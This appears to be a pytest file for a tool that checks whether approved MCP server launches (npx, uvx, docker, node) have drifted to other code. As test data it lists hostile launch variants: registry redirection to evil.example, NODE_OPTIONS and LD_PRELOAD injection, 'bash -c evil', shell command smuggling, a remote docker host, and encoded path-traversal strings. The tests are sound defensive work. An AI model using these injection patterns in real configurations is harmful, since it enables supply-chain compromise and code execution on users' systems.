"""An approval is of some code from some place: what a launch brings in besides is no part of it."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import date

import pytest

from discovery.identity.lent import FACT, lent
from discovery.identity.naming import name
from discovery.model import Sighting
from inventory.model import Entry, Governs, State, Verdict
from tests.inventory.registry.situations import Situation, days, entry, judged, registry, sight

FS = "@modelcontextprotocol/server-filesystem"
FILES = "pkg:npm/%40modelcontextprotocol/server-filesystem"
GIT = "pkg:pypi/mcp-server-git"
IMAGE = "pkg:oci/fetch?repository_url=docker.io/mcp/fetch"
SCRIPT = "file:~/tools/server.py"
ENTRIES = (FILES, GIT, IMAGE, SCRIPT)
HOME = "/home/dana"
NO_ENV: dict[str, str | None] = {}


def seen(line: str, env: dict[str, str | None] = NO_ENV) -> Sighting:
    """Return the sighting of a launch written as its words, `|` between those that hold blanks."""
    command, *args = line.split("|") if "|" in line else line.split()
    identity = name(command=command, args=args, home=HOME)
    found = lent(identity, command=command, args=args, env=env, roots=(HOME,))
    return sight(identity, *args, command=command, facts={FACT: json.dumps(found)} if found else {})


def verdict(sighting: Sighting, **changes: object) -> Verdict:
    entries = tuple(
        replace(entry(it), id=f"e{at}", **changes)  # type: ignore[arg-type]
        for at, it in enumerate(ENTRIES)
    )
    return judged(Situation(sightings=(sighting,), snapshot=registry(*entries))).verdict


OTHER_CODE = [
    (f"npx -y {FS}", {"npm_config_registry": "https://evil.example"}, "source"),
    (f"npx -y {FS}", {"NPM_CONFIG_REGISTRY": "${MIRROR}"}, "source"),
    (f"npx -y {FS}", {"npm_config_@modelcontextprotocol:registry": "https://evil.example"}, "source"),
    (f"npx -y {FS}", {"NPM_CONFIG_USERCONFIG": "/x/npmrc"}, "source"),
    (f"npx --@modelcontextprotocol:registry=https://evil.example -y {FS}", NO_ENV, "source"),
    (f"npx --userconfig /x/npmrc -y {FS}", NO_ENV, "source"),
    (f"npx -p evil -p {FS} server-filesystem", NO_ENV, "args"),
    (f"npx -p {FS} bash -c evil", NO_ENV, "args"),
    (f"npx|-p|{FS}|-c|mcp-server-filesystem; evil", NO_ENV, "args"),
    (f"npx|--node-options=--require /x.js|{FS}", NO_ENV, "args"),
    (f"./npx -y {FS}", NO_ENV, "args"),
    (f"/tmp/x/npx -y {FS}", NO_ENV, "args"),
    (f"npx -y {FS}", {"NODE_OPTIONS": "--max-old-space-size=64 --require /x.js"}, "env"),
    (f"npx -y {FS}", {"LD_PRELOAD": "/x.so"}, "env"),
    (f"npx -y {FS}", {"PATH": "/tmp/x:/usr/bin"}, "env"),
    (f"env NODE_OPTIONS=--require=/x.js npx -y {FS}", NO_ENV, "env"),
    (f"bash|-c|npm_config_registry=https://evil.example npx -y {FS}", NO_ENV, "source"),
    (f"deno run -A --import-map=/x.json npm:{FS}", NO_ENV, "args"),
    (f"node --import data:text/javascript,x /opt/node_modules/{FS}/dist/index.js", NO_ENV, "args"),
    (f"ssh other.example npx -y {FS}", NO_ENV, "source"),
    ("uvx mcp-server-git", {"UV_EXTRA_INDEX_URL": "https://evil.example"}, "source"),
    ("uvx mcp-server-git", {"UV_DEFAULT_INDEX": "https://evil.example"}, "source"),
    ("uvx mcp-server-git", {"PYTHONPATH": "/srv/evil"}, "env"),
    ("uvx --index https://evil.example/simple mcp-server-git", NO_ENV, "source"),
    ("uvx --find-links https://evil.example mcp-server-git", NO_ENV, "source"),
    ("uvx --with evil mcp-server-git", NO_ENV, "args"),
    ("uv tool run --with-editable /x mcp-server-git", NO_ENV, "args"),
    ("uvx --overrides /x.txt mcp-server-git", NO_ENV, "args"),
    ("uvx --from mcp-server-git bash -c evil", NO_ENV, "args"),
    ("pipx|run|--pip-args=--extra-index-url https://evil.example|mcp-server-git", NO_ENV, "source"),
    ("docker run -i --entrypoint /bin/sh mcp/fetch -c evil", NO_ENV, "args"),
    ("docker run -i -e LD_PRELOAD=/x.so mcp/fetch", NO_ENV, "env"),
    ("docker -H tcp://evil.example:2375 run -i mcp/fetch", NO_ENV, "source"),
    ("node --require /x.js ~/tools/server.py", NO_ENV, "args"),
]


@pytest.mark.parametrize(("line", "env", "kind"), OTHER_CODE)
def test_other_code_under_an_approved_name_has_drifted(
    line: str, env: dict[str, str | None], kind: str
) -> None:
    sighting = seen(line, env)
    snapshot = registry(*(replace(entry(it), id=f"e{at}") for at, it in enumerate(ENTRIES)))
    found = judged(Situation(sightings=(sighting,), snapshot=snapshot))
    assert found.verdict is Verdict.DRIFTED
    assert f"drifted/{kind}" in {it.rule for it in found.evidence}


HONEST = [
    (f"npx -y {FS} /srv", NO_ENV),
    (f"npx -y {FS}", {"npm_config_registry": "https://registry.npmjs.org/"}),
    (f"npx -y {FS}", {"NODE_OPTIONS": "--max-old-space-size=4096 --no-warnings"}),
    (f"npx -y {FS}", {"PATH": "/opt/homebrew/bin:/usr/bin:${PATH}"}),
    (f"npx -y {FS}", {"PIP_INDEX_URL": "https://pypi.acme.example"}),  # of another package manager
    (f"npx -y {FS} --with x --registry https://a.example --require y", NO_ENV),  # the server's own arguments
    (f"npx -p node@20 -p {FS} mcp-server-filesystem", NO_ENV),
    (f"npx -p {FS} -c mcp-server-filesystem", NO_ENV),
    (f"/opt/homebrew/bin/npx -y {FS}", NO_ENV),
    (f"node_modules/.bin/npx -y {FS}", NO_ENV),
    (f"/home/dana/.nvm/versions/node/v20.1.0/bin/npx -y {FS}", {"API_KEY": None}),
    ("uvx mcp-server-git", {"UV_INDEX_URL": "https://pypi.org/simple"}),
    ("uvx --python 3.12 mcp-server-git", NO_ENV),
    ("uvx --from mcp-server-git mcp-server-git", NO_ENV),
    ("docker run -i --rm -e TOKEN -v /srv/data:/data mcp/fetch", {"DOCKER_HOST": "unix:///run/docker.sock"}),
    ("uv run --with mcp ~/tools/server.py", {"PYTHONPATH": "/home/dana/tools"}),
    ("node --import tsx ~/tools/server.py", NO_ENV),
]


@pytest.mark.parametrize(("line", "env"), HONEST)
def test_honest_variants_of_a_launch_stay_approved(line: str, env: dict[str, str | None]) -> None:
    assert verdict(seen(line, env)) is Verdict.APPROVED


NAMED = [
    (
        f"npx -y {FS}",
        {"npm_config_registry": "https://npm.acme.example/npm"},
        Governs(sources=("npm.acme.example",)),
    ),
    ("uvx --with httpx mcp-server-git", NO_ENV, Governs(args_allowed=("--with=httpx",))),
    (f"npx -y {FS}", {"NODE_OPTIONS": "--require /x.js"}, Governs(env_allowed=("NODE_*",))),
    (
        f"ssh build.acme.example npx -y {FS}",
        NO_ENV,
        Governs(sources=("*.acme.example", "registry.npmjs.org")),
    ),
]


@pytest.mark.parametrize(("line", "env", "governs"), NAMED)
def test_an_entry_that_names_it_accepts_it(line: str, env: dict[str, str | None], governs: Governs) -> None:
    sighting = replace(seen(line, env), env_names=tuple(env))
    assert verdict(sighting, governs=governs) is Verdict.APPROVED


@pytest.mark.parametrize(
    "value", ["https://npm.acme.example.evil.example", "https://evil.example/npm.acme.example"]
)
def test_a_source_that_only_looks_like_the_named_one_has_drifted(value: str) -> None:
    sighting = seen(f"npx -y {FS}", {"npm_config_registry": value})
    assert verdict(sighting, governs=Governs(sources=("npm.acme.example",))) is Verdict.DRIFTED


def test_no_secret_of_an_index_is_kept() -> None:
    sighting = seen(f"npx -y {FS}", {"npm_config_registry": "https://ci:hunter2pass@evil.example/?token=abc"})
    assert "hunter2pass" not in str(sighting.facts)
    assert "evil.example" in str(sighting.facts)


PLACES = [
    "../evil",
    "./evil",
    "/srv/evil",
    "~/evil",
    "evil/repo",
    "evil/repo#main",
    "link:/x",
    "workspace:*",
    "file:x",
]


@pytest.mark.parametrize("place", PLACES)
def test_a_place_behind_the_name_is_what_npx_runs(place: str) -> None:
    assert verdict(seen(f"npx -y {FS}@{place}")) is not Verdict.APPROVED


def test_a_line_that_only_a_shell_understands_is_no_approved_package() -> None:
    identity = name(command=f"npx -y {FS} && evil")
    assert verdict(sight(identity, command=f"npx -y {FS} && evil")) is Verdict.UNRESOLVED


PREFIX = entry("https://api.acme.example/v1/*")
TEMPLATE = entry("https://{tenant}.acme.example/mcp")


def of_url(url: str, by: Entry) -> Verdict:
    identity = name(command=None, url=url)
    sighting = sight(identity, command=None, url=url)
    return judged(Situation(sightings=(sighting,), snapshot=registry(by))).verdict


@pytest.mark.parametrize(
    "path", ["..%2fadmin", "%252e%252e/admin", "..;/admin", "x/..%5cadmin", "%2e%2e%2fadmin"]
)
def test_a_hidden_way_up_leads_out_of_a_prefix(path: str) -> None:
    assert of_url(f"https://api.acme.example/v1/{path}", PREFIX) is Verdict.DRIFTED
    assert (
        of_url(f"https://api.acme.example/v1/{path}", replace(PREFIX, state=State.DENIED)) is Verdict.DENIED
    )


@pytest.mark.parametrize("path", ["a..b", "v1..2", "x%2fy", "..."])
def test_dots_that_lead_nowhere_stay_inside(path: str) -> None:
    assert of_url(f"https://api.acme.example/v1/{path}", PREFIX) is Verdict.APPROVED


def test_a_variable_in_the_host_may_name_any_host() -> None:
    assert of_url("https://${X}.acme.example/mcp", TEMPLATE) is Verdict.DRIFTED
    assert (
        of_url("https://${tenant}.acme.example/mcp", TEMPLATE) is Verdict.APPROVED
    )  # what was approved, word by word
    assert of_url("https://dana.acme.example/mcp", TEMPLATE) is Verdict.APPROVED


def on(approved: date | None, **changes: object) -> Verdict:
    by = replace(entry(FILES), approved_at=approved, **changes)  # type: ignore[arg-type]
    return judged(Situation(sightings=(seen(f"npx -y {FS}"),), snapshot=registry(by))).verdict


def test_an_approval_dated_tomorrow_approves_tomorrow() -> None:
    assert on(days(1)) is Verdict.PENDING
    assert on(days(0)) is Verdict.APPROVED
    assert on(None) is Verdict.APPROVED
    assert on(days(1), state=State.DENIED) is Verdict.DENIED


def test_an_approval_in_force_outweighs_one_to_come() -> None:
    to_come = replace(entry(FILES), id="e2", approved_at=days(1))
    both = registry(entry(FILES), to_come)
    assert judged(Situation(sightings=(seen(f"npx -y {FS}"),), snapshot=both)).verdict is Verdict.APPROVED


def test_a_review_to_come_is_no_review() -> None:
    by = replace(entry(FILES), approved_at=days(-500), reviewed_at=days(30))
    found = judged(Situation(sightings=(seen(f"npx -y {FS}"),), snapshot=registry(by)))
    assert "review" in {it.rule for it in found.evidence}
